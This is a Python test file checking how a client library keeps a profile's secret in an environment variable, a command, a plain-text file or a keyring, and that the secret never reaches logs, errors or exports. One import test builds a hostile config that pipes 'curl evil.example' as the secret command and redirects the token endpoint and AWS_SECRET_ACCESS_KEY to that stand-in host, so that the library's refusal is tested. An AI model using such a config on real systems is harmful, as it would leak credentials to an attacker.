"""Where a profile's secret lives: keyring, env, command, file (issue 20).

In-process tests of the stores (the keyring store is covered by the keyring
tests); the headless command-line runs are in test_headless.py, the keyring
password prompt through a pseudo-terminal in test_keyring_prompt.py.
"""

from __future__ import annotations

import contextlib
import json
import logging
import os
import shlex
import stat
import sys
from pathlib import Path
from typing import Any

import pytest

import kaskada as kda
from kaskada import _reset, table
from kaskada._errors import (
    ConfigError,
    IncompleteCredentialsError,
    PlainTextKeyringError,
    UntrustedConfigError,
)
from kaskada._secret import Secret
from kaskada.config import file as _config
from kaskada.config import lifecycle as _profiles
from kaskada.credentials import profile_stores as _secret_stores
from tests.helpers import FORK_THEN_EXEC, printing_command, run_cli, server_fields
from tests.helpers import python_command as _python
from tests.token_fakes import ManualClock

CANARY = "canary-9f3b2a-secret-never-shown"


def _everything_under(*folders: Path) -> str:
    """Every file's bytes under ``folders`` as text (to look for a canary)."""
    seen = []
    for folder in folders:
        if folder.exists():
            for path in sorted(folder.rglob("*")):
                if path.is_file():
                    seen.append(f"{path}\n{path.read_bytes().decode('utf-8', 'replace')}")
    return "\n".join(seen)


# --- the profile's settings --------------------------------------------------------


def test_store_settings_are_checked_with_the_file_and_key_named() -> None:
    with pytest.raises(ConfigError, match="secret_env must name an environment variable"):
        _profiles.add_profile("a", {"client_id": "x", "secret_env": "NOT A VAR"}, None)
    with pytest.raises(ConfigError, match="secret_command must be a list"):
        _profiles.add_profile("a", {"client_id": "x", "secret_command": "op read x"}, None)
    with pytest.raises(ConfigError, match="both set"):
        _profiles.add_profile(
            "a", {"client_id": "x", "secret_env": "V", "secret_command": ["true"]}, None
        )
    with pytest.raises(ConfigError, match="secret_store must be one of"):
        _profiles.add_profile("a", {"client_id": "x", "secret_store": "vault"}, None)
    assert not _config.config_path().exists()


def test_a_secret_given_to_an_env_profile_is_refused_not_stored_anywhere() -> None:
    with pytest.raises(ConfigError, match="would never be used"):
        _profiles.add_profile("a", {"client_id": "x", "secret_env": "A_SECRET"}, Secret(CANARY))
    assert not _config.config_path().exists()


# --- env -----------------------------------------------------------------------------


def test_two_accounts_in_one_process_each_from_its_own_variable(
    local_server: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Two profiles, two variables, no keyring: each session runs as its own account."""
    monkeypatch.setenv("PYTHON_KEYRING_BACKEND", "keyring.backends.fail.Keyring")
    names = {}
    for profile in ("alpha", "beta"):
        client_id, secret = local_server.add_client(f"{profile}-account-{os.getpid()}")
        variable = f"{profile.upper()}_KASKADA_SECRET"
        monkeypatch.setenv(variable, secret)
        _profiles.add_profile(
            profile,
            {"client_id": client_id, "secret_env": variable, **server_fields(local_server)},
            None,
        )
        names[profile] = f"only_{profile}_{os.getpid()}"
    with kda.session(profile="alpha"):
        table.create_table(names["alpha"], "t", "k")
    with kda.session(profile="beta"):
        assert names["alpha"] not in table.list_tables()  # another account
        table.create_table(names["beta"], "t", "k")
    with kda.session(profile="alpha"):
        assert names["alpha"] in table.list_tables()
        assert names["beta"] not in table.list_tables()
        source = kda.explain().source("client_secret")
    assert "environment variable ALPHA_KASKADA_SECRET" in source


def test_an_unset_variable_says_which_and_how_to_set_it() -> None:
    _profiles.add_profile("a", {"client_id": "x", "secret_env": "A_KASKADA_SECRET"}, None)
    with pytest.raises(IncompleteCredentialsError) as caught:
        kda.init(profile="a")
    assert "$A_KASKADA_SECRET, which is not set" in str(caught.value)
    assert "export A_KASKADA_SECRET=" in str(caught.value)


# --- command -----------------------------------------------------------------------


def test_a_command_profile_signs_in_with_what_the_command_prints(
    local_server: Any, tmp_path: Path
) -> None:
    client_id, secret = local_server.add_client(f"cmd-{os.getpid()}")
    _profiles.add_profile(
        "c",
        {**server_fields(local_server, client_id),
         "secret_command": printing_command(tmp_path, secret)},
        None,
    )
    with kda.session(profile="c"):
        table.list_tables()
        assert kda.explain().source("auth").startswith("command `")


def test_a_command_that_hangs_is_stopped_at_its_limit(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("KASKADA_SECRET_COMMAND_TIMEOUT", "0.5")
    _profiles.add_profile(
        "c", {"client_id": "x", "secret_command": _python("import time; time.sleep(600)")}, None
    )
    with pytest.raises(IncompleteCredentialsError, match=r"did not finish within 0\.5 s"):
        kda.init(profile="c").access_token()  # the command runs when a token is needed


def test_a_command_that_prints_too_much_is_stopped_with_one_error() -> None:
    """Finding F2: the output is bounded (64 KiB), never read whole into memory."""
    code = "import sys\nwhile True: sys.stdout.write('a' * 65536)"
    _profiles.add_profile("c", {"client_id": "x", "secret_command": _python(code)}, None)
    with pytest.raises(IncompleteCredentialsError) as caught:
        kda.init(profile="c").access_token()  # the command runs when a token is needed
    message = str(caught.value)
    assert "printed more than 64 KiB" in message and "secret_command of profile 'c'" in message
    assert "aaaa" not in message


def test_a_command_stopped_at_its_limit_takes_its_children_with_it(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    """Finding F2: ``sh -c 'sleep …'`` left the sleep running; the whole process group
    is killed now."""
    if sys.platform == "win32":
        pytest.skip("process groups are POSIX (Windows kills the command only)")
    monkeypatch.setenv("KASKADA_SECRET_COMMAND_TIMEOUT", "1")
    pidfile = tmp_path / "child.pid"
    code = (
        "import subprocess, sys, time\n"
        "child = subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(600)'])\n"
        f"open({str(pidfile)!r}, 'w').write(str(child.pid))\n"
        "time.sleep(600)"
    )
    _profiles.add_profile("c", {"client_id": "x", "secret_command": _python(code)}, None)
    with pytest.raises(IncompleteCredentialsError, match="did not finish within 1 s"):
        kda.init(profile="c").access_token()  # the command runs when a token is needed
    child = int(pidfile.read_text())
    assert _gone_soon(child), f"the command's child {child} is still running"


def _gone_soon(pid: int) -> bool:
    """Whether ``pid`` ends (or is a zombie) within a few seconds of its SIGKILL."""
    import time

    for _ in range(200):
        try:
            state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
        except (FileNotFoundError, ProcessLookupError):
            return True
        if state in ("Z", "X"):
            return True
        time.sleep(0.05)  # SIGKILL is delivered asynchronously: poll, bounded
    with contextlib.suppress(OSError):
        os.kill(pid, 9)  # leave nothing behind
    return False


def test_a_failing_command_shows_its_stderr_never_its_stdout(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("CANARY_VALUE", CANARY)  # the command prints it; its text holds none
    code = (
        "import os, sys; print(os.environ['CANARY_VALUE']); "
        "sys.stderr.write('vault: permission denied'); exit(3)"
    )
    _profiles.add_profile("c", {"client_id": "x", "secret_command": _python(code)}, None)
    with pytest.raises(IncompleteCredentialsError) as caught:
        kda.init(profile="c").access_token()  # the command runs when a token is needed
    message = str(caught.value)
    assert "exit status 3" in message and "vault: permission denied" in message
    assert CANARY not in message


def test_a_failing_commands_stderr_keeps_its_lines_and_escapes_controls() -> None:
    """Finding F13: the lines read as the command wrote them (not ``\\x0a``), each
    indented; terminal controls stay escaped."""
    code = "import sys; sys.stderr.write('line one\\nline two\\x1b[31m\\n'); exit(3)"
    added = run_cli("profile", "add", "c", "--client-id", "x", "--secret-command",
                    shlex.join(_python(code)))
    assert added.returncode == 0, added.stderr
    result = run_cli("--profile", "c", "table", "list")
    assert result.returncode == 4
    assert "its standard error:\n  line one\n  line two\\x1b[31m" in result.stderr
    assert "\x1b" not in result.stderr and "\\x0a" not in result.stderr


@FORK_THEN_EXEC
def test_at_a_terminal_the_commands_prompt_on_stderr_reaches_the_person(
    tmp_path: Path,
) -> None:
    """Finding F13: a password manager's prompt on stderr was captured, so the terminal
    just hung; with a person at the terminal it goes through."""
    pexpect = pytest.importorskip("pexpect")
    if sys.platform == "win32":
        pytest.skip("a POSIX pseudo-terminal")
    code = "import sys; sys.stderr.write('Passphrase for vault: '); sys.stderr.flush(); " \
        "sys.stdin.readline(); exit(5)"
    script = tmp_path / "prompting.py"
    script.write_text(code)
    assert run_cli("profile", "add", "c", "--client-id", "x", "--secret-command",
                   f"{sys.executable} {script}").returncode == 0
    child = pexpect.spawn(sys.executable, ["-m", "kaskada", "--profile", "c", "table", "list"],
                          env=dict(os.environ), encoding="utf-8", timeout=60)
    try:
        child.expect_exact("Passphrase for vault: ")
        child.expect_exact("its standard error went to the terminal")
        child.expect(pexpect.EOF)
    finally:
        child.close(force=True)
    assert child.exitstatus == 4


def test_a_command_that_echoes_the_secret_on_stderr_has_it_masked(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("CANARY_VALUE", CANARY)
    code = (
        "import os, sys; value = os.environ['CANARY_VALUE']; print(value); "
        "sys.stderr.write('got ' + value); exit(1)"
    )
    _profiles.add_profile("c", {"client_id": "x", "secret_command": _python(code)}, None)
    with pytest.raises(IncompleteCredentialsError) as caught:
        kda.init(profile="c").access_token()  # the command runs when a token is needed
    assert CANARY not in str(caught.value) and "got ********" in str(caught.value)


def test_a_command_that_prints_nothing_is_an_error_saying_so() -> None:
    _profiles.add_profile("c", {"client_id": "x", "secret_command": _python("pass")}, None)
    with pytest.raises(IncompleteCredentialsError, match="printed nothing"):
        kda.init(profile="c").access_token()  # the command runs when a token is needed


def test_a_token_json_is_used_until_its_expiry_then_the_command_runs_again(
    tmp_path: Path,
) -> None:
    """credential_process style: the printed token is the bearer token; once it expires,
    the next call runs the command again (counted by the lines it appends)."""
    from kaskada import _clock

    runs = tmp_path / "runs"
    code = (
        "import json, time\n"
        f"with open({str(runs)!r}, 'a') as f: f.write('x\\n')\n"
        f"n = len(open({str(runs)!r}).read().split())\n"
        "print(json.dumps({'Version': 1, 'AccessToken': 'tok-%d' % n, 'expires_in': 300}))"
    )
    _profiles.add_profile("c", {"client_id": "x", "secret_command": _python(code)}, None)
    clock = ManualClock()
    with _clock.use(clock):
        session = kda.session(profile="c")
        assert not runs.exists()  # resolving runs nothing
        token = session.access_token()
        assert token.reveal() == "tok-1" and session.access_token().reveal() == "tok-1"
        clock.advance(200)
        assert session.access_token().reveal() == "tok-1"  # still valid: not run again
        clock.advance(200)
        assert session.access_token().reveal() == "tok-2"  # expired: run again
    assert runs.read_text().split() == ["x", "x"]
    assert session.settings.token.value is None and repr(token) == "Secret('********')"
    assert session.explain().source("auth").startswith("command `")


@pytest.mark.parametrize(
    ("printed", "expected"),
    [
        ('"Expiration": "2020-01-01T00:00:00Z"', "expired at 2020-01-01T00:00:00Z"),
        ('"expires_in": -5', "printed a token that expired at"),
        ('"expires_in": NaN', "not a number of seconds"),
        ('"expires_in": Infinity', "not a number of seconds"),
        ('"expires_in": -1e300', "expired at a time long past"),
    ],
)
def test_an_expired_or_senseless_token_is_one_error_and_the_command_runs_once(
    printed: str, expected: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Finding F3: such a token was sent anyway, and the command ran twice per call."""
    monkeypatch.setenv("CANARY_VALUE", CANARY)  # the command prints it; its text holds none
    runs = tmp_path / "runs"
    code = (
        f"import os\nopen({str(runs)!r}, 'a').write('x')\n"
        "print('{\"Version\": 1, \"AccessToken\": \"' + os.environ['CANARY_VALUE'] + "
        f"'\", {printed}}}')"
    )
    _profiles.add_profile("c", {"client_id": "x", "secret_command": _python(code)}, None)
    with pytest.raises(IncompleteCredentialsError, match=expected) as caught:
        kda.init(profile="c").access_token()  # the command runs when a token is needed
    assert "secret_command of profile 'c'" in str(caught.value)
    assert CANARY not in str(caught.value)
    assert runs.read_text() == "x"


def test_a_token_for_ever_is_used_for_a_day_at_most() -> None:
    from kaskada import _clock

    store = _secret_stores.CommandStore("c", ["true"])
    token = _secret_stores.CommandToken.parse(
        store, '{"Version": 1, "AccessToken": "t", "Expiration": "9999-01-01T00:00:00Z"}'
    )
    assert token.expires_at <= _clock.get().time() + 24 * 3600


def test_a_token_json_without_an_expiry_is_refused() -> None:
    code = "print('{\"AccessToken\": \"t\"}')"
    _profiles.add_profile("c", {"client_id": "x", "secret_command": _python(code)}, None)
    with pytest.raises(IncompleteCredentialsError, match="without a usable expiry"):
        kda.init(profile="c").access_token()  # the command runs when a token is needed


def test_an_untrusted_config_never_runs_the_command_nor_reads_the_variable(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    if sys.platform == "win32":
        pytest.skip("POSIX modes")
    marker = tmp_path / "ran"
    code = f"open({str(marker)!r}, 'w').write('ran'); print('s')"
    _profiles.add_profile("c", {"client_id": "x", "secret_command": _python(code)}, None)
    _profiles.add_profile("e", {"client_id": "x", "secret_env": "E_KASKADA_SECRET"}, None)
    monkeypatch.setenv("E_KASKADA_SECRET", CANARY)
    path = _config.config_path()
    path.chmod(0o666)  # others can write it
    _reset.reset_all()
    with pytest.raises(UntrustedConfigError, match="writable by other users"):
        kda.init(profile="c").access_token()
    assert not marker.exists()
    with pytest.raises(UntrustedConfigError) as caught:
        kda.session(profile="e").settings.client_secret.value.reveal()
    assert CANARY not in str(caught.value)


def test_import_shows_secret_sources_and_needs_the_flag(tmp_path: Path) -> None:
    incoming = tmp_path / "team.toml"
    incoming.write_text(
        '[profiles.shared]\nclient_id = "x"\nsecret_env = "AWS_SECRET_ACCESS_KEY"\n'
        "exchange_endpoint = \"https://evil.example/token\"\nendpoint = \"evil.example:443\"\n"
        '[profiles.tool]\nclient_id = "y"\nsecret_command = ["curl", "evil.example"]\n'
    )
    with pytest.raises(ConfigError) as caught:
        _profiles.import_profiles(incoming)
    message = str(caught.value)
    assert "$AWS_SECRET_ACCESS_KEY" in message and "`curl evil.example`" in message
    assert "--accept-secret-sources" in message
    assert not _config.config_path().exists()
    notes: list[str] = []
    assert _profiles.import_profiles(incoming, accept_secret_sources=True, notes=notes) == [
        "shared",
        "tool",
    ]
    assert any("AWS_SECRET_ACCESS_KEY" in line for line in notes)


def test_an_imported_plain_text_store_needs_the_flag_and_configure_the_opt_in(
    tmp_path: Path,
) -> None:
    """Finding F4: an imported ``secret_store = "file"`` is shown and needs the flag;
    configure then refuses to type a secret into plain text without --insecure-storage."""
    incoming = tmp_path / "evil.toml"
    incoming.write_text('[profiles.evil]\nclient_id = "x"\nsecret_store = "file"\n')
    with pytest.raises(ConfigError, match="plain-text file") as caught:
        _profiles.import_profiles(incoming)
    assert "--accept-secret-sources" in str(caught.value)
    assert not _config.config_path().exists()
    _profiles.import_profiles(incoming, accept_secret_sources=True)
    result = run_cli("configure", "--profile", "evil", input="x\n\n\n\n" + CANARY + "\n")
    assert result.returncode == 1, result.stderr
    assert "--insecure-storage" in result.stderr and "Client ID" not in result.stderr
    assert not _secret_stores.FileStore("evil").path().exists()
    assert CANARY not in _everything_under(_config.config_path().parent)


def test_export_never_plants_plain_text_storage() -> None:
    _profiles.add_profile("f", {"client_id": "x", "secret_store": "file"}, Secret(CANARY))
    exported = _profiles.export_profiles(["f"])
    assert "secret_store" not in exported and CANARY not in exported
    assert 'client_id = "x"' in exported


# --- file ----------------------------------------------------------------------------


def test_an_opted_in_file_is_0600_bound_and_named_as_plain_text(local_server: Any) -> None:
    client_id, secret = local_server.add_client(f"file-{os.getpid()}")
    fields = {"client_id": client_id, "secret_store": "file", **server_fields(local_server)}
    _profiles.add_profile("f", fields, Secret(secret))
    store = _secret_stores.store_for("f")
    assert "plain-text file" in store.describe()
    path = _secret_stores.FileStore("f").path()
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert stat.S_IMODE(path.parent.stat().st_mode) == 0o700
    assert json.loads(path.read_text())["binding"]["client_id"] == client_id
    with kda.session(profile="f"):
        table.list_tables()
        assert "plain-text file" in kda.explain().source("client_secret")
    # Bound like a keyring entry: an edited endpoint sends nothing.
    document = _config.config_path().read_text()
    moved = document.replace(local_server.token_url, "http://127.0.0.9:1/t")
    _config.config_path().write_text(moved)
    _reset.reset_all()
    with pytest.raises(Exception, match="stored for other settings"):
        kda.session(profile="f").settings.client_secret.value.reveal()


def test_file_secret_follows_rename_and_goes_with_remove() -> None:
    _profiles.add_profile("f", {"client_id": "x", "secret_store": "file"}, Secret(CANARY))
    _profiles.rename_profile("f", "g")
    assert not _secret_stores.FileStore("f").path().exists()
    entry = _secret_stores.FileStore("g").read()
    assert entry is not None and entry.secret.reveal() == CANARY
    assert _profiles.remove_profile("g").secret_deleted
    assert not _secret_stores.FileStore("g").path().exists()


def test_a_file_owned_or_writable_by_others_is_refused() -> None:
    if sys.platform == "win32":
        pytest.skip("POSIX modes")
    _profiles.add_profile("f", {"client_id": "x", "secret_store": "file"}, Secret(CANARY))
    path = _secret_stores.FileStore("f").path()
    path.chmod(0o666)
    with pytest.raises(UntrustedConfigError, match="writable by other users") as caught:
        _secret_stores.FileStore("f").read()
    assert CANARY not in str(caught.value)


def test_a_file_others_can_read_or_a_link_is_refused_naming_the_fix(tmp_path: Path) -> None:
    """As ssh refuses a private key others can read (finding F1), and never through a
    symbolic link (O_NOFOLLOW)."""
    if sys.platform == "win32":
        pytest.skip("POSIX modes and links")
    _profiles.add_profile("f", {"client_id": "x", "secret_store": "file"}, Secret(CANARY))
    path = _secret_stores.FileStore("f").path()
    path.chmod(0o644)
    with pytest.raises(UntrustedConfigError, match="other users can read it") as caught:
        _secret_stores.FileStore("f").read()
    message = str(caught.value)
    assert f"chmod 600 {path}" in message and "\n" not in message and CANARY not in message
    path.chmod(0o600)
    path.parent.chmod(0o777)
    try:
        with pytest.raises(UntrustedConfigError, match=f"chmod 700 {path.parent}"):
            _secret_stores.FileStore("f").read()
    finally:
        path.parent.chmod(0o700)
    elsewhere = tmp_path / "elsewhere.json"
    path.rename(elsewhere)
    path.symlink_to(elsewhere)
    with pytest.raises(UntrustedConfigError, match="symbolic link") as linked:
        _secret_stores.FileStore("f").read()
    assert CANARY not in str(linked.value)


# --- plain text is never silent ----------------------------------------------------


def test_a_plain_text_keyring_is_refused_naming_backend_and_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import keyring
    from keyrings.alt.file import PlaintextKeyring  # type: ignore[import-untyped]

    monkeypatch.setenv("XDG_DATA_HOME", str(tmp_path / "data"))
    backend = PlaintextKeyring()
    previous = keyring.get_keyring()
    keyring.set_keyring(backend)
    try:
        with pytest.raises(PlainTextKeyringError) as caught:
            _profiles.add_profile("p", {"client_id": "x"}, Secret(CANARY))
    finally:
        keyring.set_keyring(previous)
    message = str(caught.value)
    assert "keyrings.alt.file.PlaintextKeyring" in message and backend.file_path in message
    assert "--insecure-storage" in message and CANARY not in message
    assert not Path(backend.file_path).exists() or CANARY not in Path(backend.file_path).read_text()


# --- the canary, for every store -------------------------------------------------------


@pytest.mark.parametrize("kind", ["env", "command", "file"])
def test_the_secret_reaches_no_log_exception_cache_or_config(
    kind: str,
    local_server: Any,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    caplog: pytest.LogCaptureFixture,
) -> None:
    """A real sign-in and a refused one, DEBUG logging on: the secret appears in no
    log record, no exception, no file under the config or cache folder but its own."""
    client_id, secret = local_server.add_client(f"canary-{kind}-{os.getpid()}")
    holder = tmp_path / "outside" / "holder"
    holder.parent.mkdir()
    holder.write_text(secret)
    fields: dict[str, Any] = {"client_id": client_id, **server_fields(local_server)}
    given: Secret | None = None
    if kind == "env":
        monkeypatch.setenv("CANARY_KASKADA_SECRET", secret)
        fields["secret_env"] = "CANARY_KASKADA_SECRET"
    elif kind == "command":
        fields["secret_command"] = ["cat", str(holder)]
    else:
        fields["secret_store"] = "file"
        given = Secret(secret)
    caplog.set_level(logging.DEBUG)
    _profiles.add_profile("canary", fields, given)
    with kda.session(profile="canary"):
        table.list_tables()
    local_server.revoke_client(client_id)
    _reset.reset_all()
    monkeypatch.setenv("KASKADA_TOKEN_CACHE", "0")
    with pytest.raises(Exception) as caught, kda.session(profile="canary"):
        table.list_tables()  # any refusal: its text is checked
    assert secret not in str(caught.value) and secret not in repr(caught.value)
    assert secret not in caplog.text
    config_dir = Path(os.environ["KASKADA_CONFIG_DIR"])
    cache_dir = Path(os.environ["KASKADA_CACHE_DIR"])
    own = _secret_stores.FileStore("canary").path()
    found = _everything_under(config_dir, cache_dir).replace(
        own.read_text() if own.exists() else "\0", ""
    )
    assert secret not in found
    assert (kind == "file") == own.exists()


def test_hints_never_suggest_the_keyring_already_in_use(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import keyring
    from keyrings.alt.file import EncryptedKeyring  # type: ignore[import-untyped]

    from kaskada.credentials import keyring as _keyring

    monkeypatch.setenv("XDG_DATA_HOME", str(tmp_path / "data"))
    previous = keyring.get_keyring()
    keyring.set_keyring(EncryptedKeyring())
    try:
        hint = _keyring.ways_out("dev")
    finally:
        keyring.set_keyring(previous)
    assert "keyrings.alt" not in hint and "PYTHON_KEYRING_BACKEND" not in hint
    assert "--insecure-storage" in hint and "--secret-env" in hint and "--secret-command" in hint


def test_the_keyring_mark_is_written_with_a_secret_and_never_exported(
    memory_keyring: dict[tuple[str, str], str], tmp_path: Path
) -> None:
    """secret_store = "keyring" records that kaskada stored a secret there (so a removal
    without a keyring knows to refuse); it tells of this machine, so export drops it."""
    _profiles.add_profile("kept", {"client_id": "x"}, Secret(CANARY))
    _profiles.add_profile("bare", {"client_id": "y"}, None)
    assert _config.get_profile("kept").secret_store == "keyring"
    assert _config.get_profile("bare").secret_store is None
    _profiles.add_profile("kept", {"client_id": "x", "timeout": 9}, None, force=True)
    assert _config.get_profile("kept").secret_store == "keyring"  # its secret stayed
    exported = _profiles.export_profiles()
    assert "secret_store" not in exported
    incoming = tmp_path / "in.toml"
    incoming.write_text(exported)
    _profiles.import_profiles(incoming, force=True)
    assert _config.get_profile("kept").secret_store == "keyring"  # still its secret
    assert _config.get_profile("bare").secret_store is None


# --- store settings typed on the command line (finding F13) ----------------------------


@pytest.mark.parametrize(
    ("args", "said"),
    [
        (["profile", "add", "x", "--client-id", "y", "--secret-env", ""], "needs a value"),
        (["profile", "add", "x", "--client-id", "y", "--secret-command", "   "], "needs a value"),
        (["profile", "add", "x", "--client-id", "y", "--secret-env", "has space"],
         "must name an environment variable"),
        (["profile", "add", "x", "--client-id", "y", "--secret-command", 'cat "x'],
         "unbalanced quote"),
        (["profile", "set", "p", "secret_store", "bogus"], "must be one of"),
        (["profile", "set", "p", "secret_env", ""], "needs a value"),
        (["profile", "set", "p", "secret_store", "file"], "plain-text file"),
    ],
)
def test_an_empty_or_malformed_store_setting_is_a_usage_error(
    args: list[str], said: str
) -> None:
    _profiles.add_profile("p", {"client_id": "x", "secret_env": "P_SECRET"}, None)
    before = _config.config_path().read_bytes()
    result = run_cli(*args)
    assert result.returncode == 2, result.stderr
    assert said in result.stderr and "Traceback" not in result.stderr
    assert _config.config_path().read_bytes() == before


def test_choosing_the_file_store_with_profile_set_needs_the_opt_in_and_says_plain_text() -> None:
    _profiles.add_profile("p", {"client_id": "x", "secret_env": "P_SECRET"}, None)
    result = run_cli("profile", "set", "p", "secret_store", "file", "--insecure-storage")
    assert result.returncode == 0, result.stderr
    assert "plain-text file" in result.stderr and "--insecure-storage" in result.stderr
